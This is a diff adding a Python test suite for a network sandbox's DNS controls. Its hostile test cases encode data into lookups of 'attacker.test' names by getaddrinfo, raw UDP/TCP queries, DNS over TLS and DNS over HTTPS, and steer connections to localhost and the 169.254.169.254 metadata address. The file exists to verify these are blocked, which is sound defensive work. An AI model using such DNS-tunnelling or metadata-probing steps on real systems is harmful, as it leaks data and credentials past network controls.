@@ -1,0 +1,290 @@
+"""Nothing leaves by way of names: what was asked for is decided on, and answers are not believed
+beyond what was asked."""
+
+import struct
+
+import loopback
+from name_server import A, CNAME, address_records, record, response
+from network_case import PYTHON, BenignCase, HostileCase
+from recording_host import RecordingHost
+from sinks import TcpSink, UdpSink
+from small_internet import RECORDER, RESOLVER, STRANGER
+from world import new_marker
+
+ASK = """
+import os, socket, struct, sys
+RESOLVER, NAME = "%s", %r
+def question(name, kind=1):
+    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
+    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
+try:
+    %s
+except OSError as error:
+    print("no:", error)
+"""
+
+
+class Exfiltration(HostileCase):
+    def setUp(self):
+        super().setUp()
+        self.marker = new_marker().lower()
+        self.name = self.marker + ".attacker.test"
+
+    def reached(self):
+        return self.marker.encode() in self.net.resolver.received()
+
+    def asks(self, how, name=None):
+        name = name or self.name
+        return self.python_refused(ASK % (RESOLVER, name, how), self.reached, [name])
+
+    def test_LabelsByGetaddrinfo(self):
+        self.asks("socket.getaddrinfo(NAME, 80)")
+
+    def test_LabelsBelowAnAllowedName(self):
+        self.asks("socket.getaddrinfo(NAME, 80)", name=self.marker + ".recorder.test")
+
+    def test_LabelsByAnAddressedDatagram(self):
+        self.asks("s = socket.socket(2, 2); s.settimeout(3); "
+                  "s.sendto(question(NAME, 16), (RESOLVER, 53)); s.recv(500)")
+
+    def test_LabelsByAConnectedDatagram(self):
+        self.asks("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
+                  "os.write(s.fileno(), question(NAME, 16)); s.recv(500)")
+
+    def test_LabelsByTcp(self):
+        self.asks("s = socket.create_connection((RESOLVER, 53), 3); q = question(NAME); "
+                  "s.sendall(struct.pack('>H', len(q)) + q); s.recv(500)")
+
+    def test_LabelsOfReverseLookups(self):
+        self.asks("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
+                  "s.send(question(NAME, 12)); s.recv(500)", name=self.marker + ".in-addr.arpa")
+
+    def test_DataBehindTheQuestionOfAnAllowedName(self):
+        how = ("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
+               "s.send(question('recorder.test') + NAME.encode()); s.recv(500)")
+        argv = [PYTHON, "-c", ASK % (RESOLVER, self.name, how)]
+        self.attempt(argv, False)
+        self.assertTrue(self.reached())
+        _, outcome = self.attempt(argv, True)
+        self.assertFalse(self.reached(), outcome.describe())
+
+    def sinks(self, address, port):
+        sinks = UdpSink(address, port), TcpSink(address, port)
+        for sink in sinks:
+            self.addCleanup(sink.close)
+        return sinks
+
+    def test_AResolverOfItsOwn(self):
+        udp, _ = self.sinks(STRANGER, 53)
+
+        def reached():
+            found = self.marker.encode() in udp.received()
+            udp.clear()
+            return found
+
+        self.python_refused(ASK % (STRANGER, self.name,
+                                   "s = socket.socket(2, 2); s.settimeout(1); "
+                                   "s.sendto(question(NAME), (RESOLVER, 53)); s.recv(500)"),
+                            reached, [STRANGER, self.name])
+
+    def test_DnsOverTls(self):
+        _, tcp = self.sinks(RESOLVER, 853)
+
+        def reached():
+            found = tcp.count(self.marker.encode(), timeout=1) > 0
+            tcp.clear()
+            return found
+
+        self.python_refused(ASK % (RESOLVER, self.name,
+                                   "s = socket.create_connection((RESOLVER, 853), 3); "
+                                   "s.sendall(NAME.encode())"), reached, [RESOLVER, "853"])
+
+    def test_DnsOverHttps(self):
+        self.python_refused(ASK % (STRANGER, self.name,
+                                   "s = socket.create_connection((RESOLVER, 80), 3); "
+                                   "s.sendall(b'GET /dns-query?' + NAME.encode() + b' HTTP/1.1'"
+                                   "+ bytes([13, 10]) * 2)"),
+                            lambda: self.marker.encode() in self.net.stranger_plain.received(),
+                            [STRANGER])
+
+
+class Datagrams(HostileCase):
+    def setUp(self):
+        super().setUp()
+        self.marker = new_marker().encode()
+        self.udp = {address: UdpSink(address, 443) for address in (RECORDER, STRANGER)}
+        for sink in self.udp.values():
+            self.addCleanup(sink.close)
+
+    def sends(self, script, address):
+        def reached():
+            found = self.udp[address].count(self.marker, timeout=1) > 0
+            self.udp[address].clear()
+            return found
+
+        self.python_refused("""
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); data = %r
+socket.getaddrinfo("recorder.test", 443)
+try:
+    %s
+except OSError as error: print("no:", error)
+""" % (self.marker, script), reached, [address])
+
+    def test_QuicToAnAllowedNamesAddress(self):
+        self.sends("s.sendto(data, ('%s', 443))" % RECORDER, RECORDER)
+
+    def test_ConnectedThenAddressedElsewhere(self):
+        self.sends("o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                   "o.bind(('127.0.0.1', 0)); s.bind(('', 0)); s.connect(o.getsockname()); "
+                   "s.sendto(data, ('%s', 443))" % STRANGER, STRANGER)
+
+    def test_ManyMessagesOfWhichOneIsElsewhere(self):
+        self.sends("o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                   "o.bind(('127.0.0.1', 0)); s.sendto(b'x', o.getsockname()); "
+                   "s.sendmsg([data], [], 0, ('%s', 443))" % STRANGER, STRANGER)
+
+
+CONNECT = """
+import socket, sys
+try:
+    for answer in socket.getaddrinfo("liar.test", %d, socket.AF_INET, socket.SOCK_STREAM):
+        s = socket.create_connection(answer[4], 3); s.sendall(%r); s.recv(10)
+except OSError as error: print("no:", error)
+"""
+
+
+class Lies(HostileCase):
+    allowed = ("liar.test",)
+
+    def setUp(self):
+        super().setUp()
+        self.marker = new_marker().encode()
+        self.addCleanup(self.net.resolver.faults.clear)
+
+    def answer(self, *addresses):
+        self.net.resolver.faults["liar.test"] = lambda message, name, kind, is_tcp: [
+            response(message, address_records(name, kind, addresses))]
+
+    def test_AnAnswerOfThisMachineReachesNoLocalService(self):
+        sink = TcpSink()
+        self.addCleanup(sink.close)
+        self.answer("127.0.0.1")
+
+        def reached():
+            found = sink.count(self.marker, timeout=1) > 0
+            sink.clear()
+            return found
+
+        self.python_refused(CONNECT % (sink.port, self.marker), reached,
+                            ["127.0.0.1", str(sink.port)])
+
+    def test_AnAnswerOfTheMetadataService(self):
+        loopback.bring_up("169.254.169.254")
+        host = RecordingHost("169.254.169.254", 80)
+        self.answer("169.254.169.254")
+
+        def reached():
+            found = self.marker in host.received()
+            host.clear()
+            return found
+
+        self.python_refused(CONNECT % (80, self.marker), reached, ["169.254.169.254"])
+
+    def test_AnAnswerAboutAnotherNameIsNotBelieved(self):
+        self.net.resolver.faults["liar.test"] = lambda message, name, kind, is_tcp: [
+            response(message, address_records(name, kind, [RECORDER])
+                     + address_records("stranger.test", kind, [STRANGER]))]
+        self.python_refused("""
+import socket
+try:
+    socket.getaddrinfo("liar.test", 80)
+    socket.create_connection(("%s", 80), 3).sendall(%r)
+except OSError as error: print("no:", error)
+""" % (STRANGER, self.marker), lambda: self.marker in self.net.stranger_plain.received(),
+                            [STRANGER])
+
+
+class Unreliable(BenignCase):
+    """A resolver that does not do what it should changes nothing but the answer."""
+
+    allowed = ("odd.test", "recorder.test")
+
+    def setUp(self):
+        super().setUp()
+        self.addCleanup(self.net.resolver.faults.clear)
+
+    def odd(self, fault):
+        self.net.resolver.faults["odd.test"] = fault
+
+    def look_up(self, expected, seconds=15):
+        script = """
+import socket, time
+began = time.monotonic()
+try: print(sorted({a[4][0] for a in socket.getaddrinfo("odd.test", 80)})[:3])
+except socket.gaierror as error: print("error")
+print(time.monotonic() - began < %d)
+print(socket.gethostbyname("recorder.test"))
+""" % seconds
+        self.python(script, check=lambda world, outcome: self.assertEqual(
+            "%s\nTrue\n%s\n" % (expected, RECORDER), outcome.stdout.decode(), outcome.describe()))
+
+    def good(self, message, name, kind):
+        return response(message, address_records(name, kind, [RECORDER]))
+
+    def test_AWrongIdIsPassedOver(self):
+        self.odd(lambda message, name, kind, is_tcp: [
+            response(message, address_records(name, kind, [STRANGER]),
+                     identifier=(struct.unpack(">H", message[:2])[0] + 1) & 0xffff),
+            self.good(message, name, kind)])
+        self.look_up("['%s']" % RECORDER)
+
+    def test_Silence(self):
+        self.odd(lambda *_: [])
+        self.look_up("error", seconds=25)
+
+    def test_SilenceByUdpOnly(self):
+        self.odd(lambda message, name, kind, is_tcp: [
+            self.good(message, name, kind) if is_tcp
+            else response(message, [], truncated=True)])
+        self.look_up("['%s']" % RECORDER)
+
+    def test_ACompressionLoop(self):
+        self.odd(lambda message, name, kind, is_tcp: [
+            response(message, [b"\xc0\x1d" * 40 + struct.pack(">HHIH", A, 1, 60, 4) + b"\1\2\3\4"])])
+        self.look_up("error")
+
+    def test_AnAliasOfItself(self):
+        def loop(message, name, kind, is_tcp):
+            own = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
+            return [response(message, [record(name, CNAME, own)] * 3)]
+        self.odd(loop)
+        self.look_up("error")
+
+    def test_AnAnswerOfSixtyThousandBytes(self):
+        self.odd(lambda message, name, kind, is_tcp: [
+            (self.good(message, name, kind) + b"\xff" * 60000)[:60000 if is_tcp else 500]])
+        self.look_up("['%s']" % RECORDER)
+
+    def test_ManyAddresses(self):
+        many = ["203.0.113.%d" % i for i in range(100, 120)]
+        self.odd(lambda message, name, kind, is_tcp: [
+            response(message, address_records(name, kind, many))])
+        self.look_up("['203.0.113.100', '203.0.113.101', '203.0.113.102']")
+
+    def test_GarbageThenNothing(self):
+        self.odd(lambda *_: [b"\0" * 5, b"\xff" * 700])
+        self.look_up("error", seconds=25)
+
+    def test_OthersGoOnWhileTheResolverIsSilent(self):
+        self.odd(lambda *_: [])
+        self.python("""
+import os, socket, time
+if os.fork() == 0:
+    try: socket.getaddrinfo("odd.test", 80)
+    except OSError: pass
+    os._exit(0)
+time.sleep(0.3); began = time.monotonic()
+for _ in range(20): socket.getaddrinfo("recorder.test", 80); open("/etc/hosts").close()
+print(time.monotonic() - began < 2); os.wait()
+""")
